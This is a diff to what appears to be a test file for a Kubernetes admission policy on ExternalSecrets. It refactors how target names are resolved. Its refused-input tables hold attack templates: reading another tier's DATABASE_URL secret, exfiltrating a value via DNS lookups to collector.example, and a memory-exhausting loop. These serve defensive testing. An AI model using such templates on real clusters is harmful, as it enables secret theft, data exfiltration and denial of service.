@@ -1,6 +1,7 @@
 import { type Kind, kinds } from '../../scripts/kubernetes/kinds.ts'
 import { isRecord } from '../../scripts/lib/record.ts'
 import type { TierModel } from '../../scripts/model/resolve.ts'
+import { requiredTarget } from '../helpers/targets.ts'
 import { withValue } from '../helpers/values.ts'
 import { externalSecretOf, storeOf } from './admission-world.ts'
 
@@ -108,7 +109,7 @@ const refusedKeys: Readonly<Record<string, (scene: Scene) => string>> = {
 /** Templates of one value. */
 const refusedTemplates: Readonly<Record<string, (scene: Scene) => string>> = {
   'a Secret of the other tier, read by a function': ({ other }) =>
-    `{{ getSecretKey "${other.required?.name}" "${other.namespace}" "DATABASE_URL" }}`,
+    `{{ getSecretKey "${requiredTarget(other)?.name}" "${other.namespace}" "DATABASE_URL" }}`,
   'a value that leaves as a DNS name': () => '{{ getHostByName (printf "%s.collector.example" .A) }}',
   'a list that fills the memory of the operator': () => '{{ range until 100000000 }}x{{ end }}',
   'a function of a value': () => '{{ .A | b64enc }}',
@@ -139,7 +140,7 @@ const refusedSources: Readonly<Record<string, (scene: Scene) => object>> = {
     configMap: { name: 'a', items: [{ key: 'a' }] },
   }),
   'calls a function': ({ other }) => ({
-    literal: `A: {{ getSecretKey "${other.required?.name}" "${other.namespace}" "DATABASE_URL" }}`,
+    literal: `A: {{ getSecretKey "${requiredTarget(other)?.name}" "${other.namespace}" "DATABASE_URL" }}`,
   }),
   'calls a function between the lines of the chart': () => ({
     literal: optionalTemplate('A').replace('$value |', '$value | getHostByName |'),
@@ -218,12 +219,12 @@ export const externalSecretAttacks: readonly Attack[] = [
   ]),
   attackOn('EXTERNAL_SECRET_TARGET', 'a foreign Secret as target', 'target.name', {
     attack: ({ own }) => own.credentialsSecret,
-    twin: ({ own }) => own.required?.name,
+    twin: ({ own }) => requiredTarget(own)?.name,
   }),
   {
     ...attackOn('EXTERNAL_SECRET_TARGET', 'no target, and so the one of its own name', 'target.name', {
       attack: () => undefined,
-      twin: ({ own }) => own.required?.name,
+      twin: ({ own }) => requiredTarget(own)?.name,
     }),
     name: ({ own }) => own.credentialsSecret,
   },
